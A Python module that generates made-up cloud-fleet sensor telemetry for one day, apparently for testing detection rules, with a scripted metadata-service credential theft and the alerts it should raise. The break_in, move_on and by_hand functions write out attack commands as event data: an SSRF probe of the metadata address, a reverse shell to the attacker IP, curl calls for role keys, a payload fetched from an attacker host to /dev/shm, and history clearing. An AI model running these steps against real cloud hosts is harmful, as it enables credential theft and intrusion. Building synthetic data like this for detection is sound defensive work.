"""A day of a small cloud fleet, made up: what its sensors saw on 2026-11-14 (UTC), theft included.

``python -m tocsin.lab.fleet [--seed N] [--hosts N] [--out DIR]`` writes three files of one event
a line: ``endpoint.ndjson.gz`` (Elastic Defend: connections, processes, files), ``http.ndjson.gz``
(captured HTTP with the program that sent it) and ``cws.ndjson.gz`` (Datadog Workload Protection,
on two of the hosts). The same seed gives the same events. The files of seed 1 ship in `DATA`.

**The fleet.** Two web servers, two queue workers, a database, a CI runner for ECS tasks, two
Kubernetes nodes, a bastion and a Windows server on AWS, one virtual machine each on Google Cloud
and Azure. All day long their agents and applications talk to their metadata services: Systems
Manager, the CloudWatch agent, cloud-init, SDKs for Python, Go, JavaScript and .NET, the ECS agent,
the EKS pod identity agent, Google's guest agent, Azure's Linux agent. worker-02 has a script that
reads the instance's id with curl every hour. Whoever talks to a metadata service has done so
before 11:30, so that half a day of learning (``--warm-up 12h``) knows them all.

**The theft.**

* 14:06 A stranger at 203.0.113.66 tries the preview function of web-01 with the address of the
  metadata service. The application's own Python asks for it, without a token; the answer is 401.
* 14:11 The same function also runs templates. The stranger gets a shell as ``www-data``, and
  with it curl: a session token, the list of roles (14:12:05), the keys of ``web-app-role``
  (14:12:31). The role may use Systems Manager, which nobody remembered.
* 15:32 With the stolen role the stranger sends worker-01 a command. It fetches a binary to
  ``/dev/shm/.cache-sync``, which asks for the keys of ``queue-worker-role`` under the user agent
  of an SDK (15:33:10), and is deleted.
* 16:46 A key for the bastion lay in the queue's bucket. The stranger logs in as ``ops`` from
  198.51.100.23 and asks by hand: which role is this (16:48:02), and its keys (16:48:41).

**What should ring**, with the rules of the pack for metadata services and 12 hours of learning:

====== ========== ========================================================================
time   host       rule
====== ========== ========================================================================
14:11  web-01     First Metadata Service Connection by a Program on a Host (curl)
14:12  web-01     Metadata Service Named on the Command Line of an Unusual Program, twice
14:12  web-01     Cloud Credentials Requested over HTTP by a Tool, twice
15:33  worker-01  First Metadata Service Connection by a Program on a Host (.cache-sync)
15:33  worker-01  Cloud Credentials Requested over HTTP by a Tool
16:48  bastion-01 imds_interactive, imds_credentials_aws
16:48  bastion-01 Metadata service queried by hand, twice
====== ========== ========================================================================

Eleven alerts, and nothing else. No event holds a secret: of a credential only the (made-up)
access key id is there, as sensors keep it.
"""

from __future__ import annotations

import argparse
import datetime as dt
import gzip
import sys
from collections.abc import Iterator, Sequence
from pathlib import Path

import msgspec

from tocsin.lab.fleet_habits import (
    BOTO3,
    CLOUD_INIT,
    CONTAINERD,
    CRON,
    ECR_PROVIDER,
    GUNICORN,
    HABITS,
    INSTANCE_ID,
    JOBS,
    KUBELET,
    NGINX,
    NODE_EXPORTER,
    POSTGRES,
    ROLE_NAMES,
    ROLES,
    SSHD,
    SSM_UBUNTU,
    SSM_WORKER,
    SVCHOST,
    TOKEN,
    WAL_G,
    Habit,
    curl,
    role,
)
from tocsin.lab.fleet_machines import IMDS, INIT, MIDNIGHT, Document, Host, Program
from tocsin.lab.fleet_sensors import Day

DATA = Path(__file__).parent / "data" / "fleet-day"
STRANGER = "203.0.113.66"
STRANGER_AT_HOME = "198.51.100.23"


def times(day: Day, every: float) -> Iterator[dt.datetime]:
    """Instants all through the day, about ``every`` minutes apart, with some jitter."""
    at = day.random.uniform(0.2, min(every, 40))
    while at < 24 * 60 - 1:
        yield MIDNIGHT + dt.timedelta(minutes=at)
        at += every * day.random.uniform(0.9, 1.1)


def ordinary(day: Day) -> None:
    """What goes on every day."""
    for host in day.hosts:
        for habit in HABITS[host.role]:
            follow(day, host, habit)
        for every, programs, files in JOBS[host.role]:
            for when in times(day, every):
                work(day, host, when, programs, files)
        if host.os != "windows" and "endpoint" in host.sensors:
            exporter = day.service(host, NODE_EXPORTER)
            for when in times(day, 45):
                day.connect(exporter, when, "10.20.0.9", 9100, inbound=True)
        if host.role == "web":
            customers(day, host)
        if host.role == "bastion":
            logins(day, host)
        if host.role == "database":
            backups(day, host)
        if host.name == "k8s-node-02":
            pulls(day, host)
        if host.name == "worker-02":
            hourly_tag(day, host)
            reboot(day, host)


def follow(day: Day, host: Host, habit: Habit) -> None:
    """A service keeps its habit."""
    process = day.service(host, habit.program)
    name = ROLE_NAMES.get(host.role, "")
    requests = [(method, target.replace("{role}", name)) for method, target in habit.requests]
    for when in times(day, habit.every):
        if requests:
            day.ask(process, when, requests, habit.address, habit.port)
        else:
            day.connect(process, when, habit.address, habit.port)


def work(
    day: Day, host: Host, when: dt.datetime, programs: Sequence[Program], files: Sequence[str]
) -> None:
    """A job runs: each program starts the next, the last one writes the files."""
    first = {"windows": SVCHOST, "amazon": CONTAINERD}.get(host.os, CRON)
    process = day.service(host, first)
    for program in programs:
        when += dt.timedelta(milliseconds=day.random.randrange(3, 30))
        process = day.run(process, program, when)
    if "endpoint" not in host.sensors:
        return
    for path in files:
        when += dt.timedelta(milliseconds=day.random.randrange(20, 900))
        day.write(process, when, path, "overwrite")
    if process.program.name == "https":
        day.connect(process, when, "192.0.2.80", 443)
    day.end(process, when + dt.timedelta(milliseconds=day.random.randrange(30, 2000)))


CUSTOMER = "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0"


def customers(day: Day, host: Host) -> None:
    """People use the shop."""
    nginx = day.service(host, NGINX)
    pages = ("/", "/cart", "/api/v1/items?page=2", "/api/v1/preview?url=https://cdn.example.com/a")
    for when in times(day, 14):
        client = f"198.51.100.{day.random.randrange(30, 250)}"
        day.visit(nginx, when, client, "GET", day.random.choice(pages), agent=CUSTOMER)


def logins(day: Day, host: Host) -> None:
    """Operators log in to the bastion; EC2 Instance Connect fetches their keys, with curl."""
    sshd = day.service(host, SSHD)
    for when in times(day, 110):
        session = day.run(sshd, Program("/usr/sbin/sshd", ("sshd", "-R")), when)
        path = "/usr/share/ec2-instance-connect/eic_curl_authorized_keys"
        script = Program("/usr/bin/dash", ("#!eic_curl_authorized_keys", path, "deploy"))
        keys = day.run(session, script, when + dt.timedelta(milliseconds=120))
        fetch = curl("-s", "-f", "-m", "1", f"http://{IMDS}/latest/meta-data/instance-id/")
        one = day.run(keys, fetch, when + dt.timedelta(milliseconds=140))
        day.ask(one, when + dt.timedelta(milliseconds=150), [INSTANCE_ID])
        shell = Program("/usr/bin/bash", ("-bash",), "deploy")
        person = day.run(session, shell, when + dt.timedelta(seconds=1), tty="pts0")
        for name, *args in (("ls", "-l"), ("uptime",), ("ssh", "10.20.3.12"), ("tail", "-f", "a")):
            when += dt.timedelta(seconds=day.random.randrange(4, 90))
            day.run(person, Program(f"/usr/bin/{name}", (name, *args), "deploy"), when)


def backups(day: Day, host: Host) -> None:
    """The database's log goes to a bucket, in a process of its own each time."""
    postgres = day.service(host, POSTGRES)
    for when in times(day, 60):
        push = day.run(postgres, WAL_G, when)
        day.ask(push, when + dt.timedelta(milliseconds=90), role(ROLE_NAMES[host.role]))
        day.connect(push, when + dt.timedelta(milliseconds=160), "192.0.2.30", 443)
        day.end(push, when + dt.timedelta(seconds=2))


def pulls(day: Day, host: Host) -> None:
    """The node fetches images, with a helper that gets a password for the registry."""
    kubelet = day.service(host, KUBELET)
    for when in times(day, 120):
        helper = day.run(kubelet, ECR_PROVIDER, when)
        day.ask(helper, when + dt.timedelta(milliseconds=40), role(ROLE_NAMES[host.role]))
        day.end(helper, when + dt.timedelta(seconds=1))


def hourly_tag(day: Day, host: Host) -> None:
    """A harmless script that reads the instance's id with curl."""
    script = Program("/usr/bin/bash", ("/bin/bash", "/usr/local/bin/tag-host.sh"))
    for when in times(day, 60):
        bash = day.run(day.service(host, CRON), script, when)
        fetch = curl("-sf", f"http://{IMDS}/latest/meta-data/instance-id")
        one = day.run(bash, fetch, when + dt.timedelta(milliseconds=30))
        day.ask(one, when + dt.timedelta(milliseconds=45), [INSTANCE_ID])
        day.end(one, when + dt.timedelta(milliseconds=70))


def reboot(day: Day, host: Host) -> None:
    """The machine restarts at 03:12, and cloud-init reads what it is."""
    when = MIDNIGHT + dt.timedelta(hours=3, minutes=12)
    init = day.run(day.service(host, INIT), CLOUD_INIT, when)
    tree = ("instance-id", "hostname", "local-ipv4", "placement/availability-zone", "public-keys/")
    steps = [TOKEN, ("GET", "/2021-03-23/user-data")]
    steps += [("GET", f"/2021-03-23/meta-data/{leaf}") for leaf in tree]
    day.ask(init, when + dt.timedelta(seconds=4), steps)
    day.end(init, when + dt.timedelta(seconds=9))


# --- the theft -----------------------------------------------------------------------------------


def at(clock: str) -> dt.datetime:
    """An instant of the day: ``14:12:05.250``."""
    return dt.datetime.fromisoformat(f"2026-11-14T{clock}+00:00")


def theft(day: Day) -> None:
    """The story of this module's head."""
    hosts = {host.name: host for host in day.hosts}
    break_in(day, hosts["web-01"])
    move_on(day, hosts["worker-01"])
    by_hand(day, hosts["bastion-01"])


def break_in(day: Day, web: Host) -> None:
    """14:06 to 14:14, web-01."""
    nginx, app = day.service(web, NGINX), day.service(web, GUNICORN)
    tool = "python-httpx/0.28.1"
    preview = "/api/v1/preview?url=http://169.254.169.254/latest/meta-data/"
    day.visit(nginx, at("14:06:41.310"), STRANGER, "GET", preview, agent=tool)
    fetch = msgspec.structs.replace(app.program, agent="python-requests/2.32.3")
    naked = msgspec.structs.replace(app, program=fetch)
    day.ask(naked, at("14:06:41.352"), [("GET", "/latest/meta-data/")], status=401)
    for clock in ("14:08:20.004", "14:10:57.870", "14:11:09.120"):
        day.visit(nginx, at(clock), STRANGER, "POST", "/api/v1/preview?format=tpl", agent=tool)
    shell = day.run(app, Program("/usr/bin/dash", ("sh", "-i"), "www-data"), at("14:11:09.377"))
    day.connect(shell, at("14:11:09.401"), STRANGER, 443)
    for clock, args in (
        ("14:11:19.700", ("id",)),
        ("14:11:24.912", ("uname", "-a")),
        ("14:11:33.051", ("cat", "/srv/shop/shop/settings.py")),
    ):
        program = Program(f"/usr/bin/{args[0]}", args, "www-data")
        day.end(day.run(shell, program, at(clock)), at(clock) + dt.timedelta(milliseconds=9))
    base = f"http://{IMDS}"
    header = ("-H", "X-aws-ec2-metadata-token-ttl-seconds: 21600")
    steps = (
        ("14:11:52.118", ("-s", "-X", "PUT", *header, f"{base}{TOKEN[1]}"), TOKEN),
        ("14:12:05.240", ("-s", "-H", "@/tmp/.h", f"{base}{ROLES}"), ("GET", ROLES)),
        (
            "14:12:31.663",
            ("-s", "-H", "@/tmp/.h", f"{base}{ROLES}web-app-role"),
            ("GET", f"{ROLES}web-app-role"),
        ),
    )
    for clock, line, request in steps:
        one = day.run(shell, curl(*line, user="www-data"), at(clock))
        day.ask(one, at(clock) + dt.timedelta(milliseconds=14), [request])
        day.end(one, at(clock) + dt.timedelta(milliseconds=38))
        if request == TOKEN:
            day.write(one, at(clock) + dt.timedelta(milliseconds=30), "/tmp/.h")  # noqa: S108
    sent = Program("/usr/bin/base64", ("base64", "-w0"), "www-data")
    day.run(shell, sent, at("14:13:02.500"))
    day.end(shell, at("14:14:40.000"), code=130)


def move_on(day: Day, worker: Host) -> None:
    """15:32 to 15:34, worker-01."""
    runner = day.run(day.service(worker, SSM_UBUNTU), SSM_WORKER, at("15:32:40.020"))
    orders = "/var/snap/amazon-ssm-agent/9881/document/orchestration/0d6f/_script.sh"
    script = day.run(runner, Program("/usr/bin/dash", ("sh", "-c", orders)), at("15:32:40.310"))
    path = "/dev/shm/.cache-sync"  # noqa: S108  (that is what the story is about)
    fetch = curl("-so", path, f"http://{STRANGER_AT_HOME}/c")
    one = day.run(script, fetch, at("15:32:41.005"))
    day.connect(one, at("15:32:41.020"), STRANGER_AT_HOME, 80)
    day.write(one, at("15:32:41.690"), path)
    day.end(one, at("15:32:41.700"))
    mode = Program("/usr/bin/chmod", ("chmod", "700", path))
    day.end(day.run(script, mode, at("15:32:42.110")), at("15:32:42.114"))
    implant = day.run(script, Program(path, (path,), agent=BOTO3), at("15:33:09.900"))
    asked = [TOKEN, ("GET", f"{ROLES}queue-worker-role")]
    day.ask(implant, at("15:33:10.004"), asked)
    day.connect(implant, at("15:33:11.480"), STRANGER_AT_HOME, 443)
    day.write(implant, at("15:33:52.000"), path, "deletion")
    day.end(implant, at("15:33:52.020"))
    day.end(script, at("15:33:52.400"))


def by_hand(day: Day, bastion: Host) -> None:
    """16:46 to 16:50, bastion-01."""
    sshd = day.service(bastion, SSHD)
    session = day.run(sshd, Program("/usr/sbin/sshd", ("sshd", "-R")), at("16:46:30.100"))
    login = Program("/usr/bin/bash", ("-bash",), "ops")
    shell = day.run(session, login, at("16:46:31.220"), tty="pts1")
    for clock, args in (
        ("16:46:44.010", ("id",)),
        ("16:46:59.870", ("last", "-n", "20")),
        ("16:47:31.400", ("ss", "-tlnp")),
    ):
        day.run(shell, Program(f"/usr/bin/{args[0]}", args, "ops"), at(clock))
    steps = (
        ("16:48:02.512", "/latest/meta-data/iam/info", ""),
        ("16:48:41.077", f"{ROLES}bastion-ops-role", "ASIAIOSFODNN7EXAMPLE"),
    )
    for clock, target, key_id in steps:
        line = ("-s", "-H", "@/home/ops/.t", f"http://{IMDS}{target}")
        one = day.run(shell, curl(*line, user="ops"), at(clock))
        day.ask(one, at(clock) + dt.timedelta(milliseconds=20), [("GET", target)], key_id=key_id)
    away = Program("/usr/bin/bash", ("bash", "-c", "history -c"), "ops")
    day.run(shell, away, at("16:50:03.330"))


# --- out -----------------------------------------------------------------------------------------


def generate(seed: int = 1, hosts: int = 12) -> dict[str, list[Document]]:
    """The events of the day by file name, each file in order of time.

    Args:
        seed: the same seed gives the same events.
        hosts: how many machines, at least the three of the story.
    """
    if hosts < 3:
        message = f"the story needs 3 hosts, not {hosts}"
        raise ValueError(message)
    day = Day(seed, hosts)
    ordinary(day)
    theft(day)
    files: dict[str, list[Document]] = {}
    for name, made in (("endpoint", day.endpoint), ("http", day.http), ("cws", day.cws)):
        made.sort(key=lambda pair: pair[0])
        files[name] = [document for _, document in made]
    for number, document in enumerate(files["endpoint"]):
        document["event"]["id"] = f"OEp9qYb+{number:06d}"
    for number, document in enumerate(files["http"]):
        document["event"]["id"] = f"PktHttp+{number:06d}"
    return files


def write(files: dict[str, list[Document]], directory: Path) -> list[Path]:
    """Write compressed NDJSON, the same bytes for the same events."""
    directory.mkdir(parents=True, exist_ok=True)
    encode = msgspec.json.Encoder().encode
    written = []
    for name, documents in files.items():
        path = directory / f"{name}.ndjson.gz"
        lines = b"".join(encode(document) + b"\n" for document in documents)
        path.write_bytes(gzip.compress(lines, compresslevel=9, mtime=0))
        written.append(path)
    return written


def main(arguments: Sequence[str] | None = None) -> None:
    """The command of this module's head."""
    parser = argparse.ArgumentParser(
        prog="python -m tocsin.lab.fleet", description="Write a made-up day of a cloud fleet."
    )
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--hosts", type=int, default=12)
    parser.add_argument("--out", type=Path, default=Path("fleet-day"))
    options = parser.parse_args(arguments)
    if options.hosts < 3:
        parser.error("the story needs at least 3 hosts")
    files = generate(options.seed, options.hosts)
    for path, documents in zip(write(files, options.out), files.values(), strict=True):
        size = path.stat().st_size
        sys.stdout.write(f"{path}: {len(documents)} events, {size / 1000:.0f} KB\n")


if __name__ == "__main__":
    main()
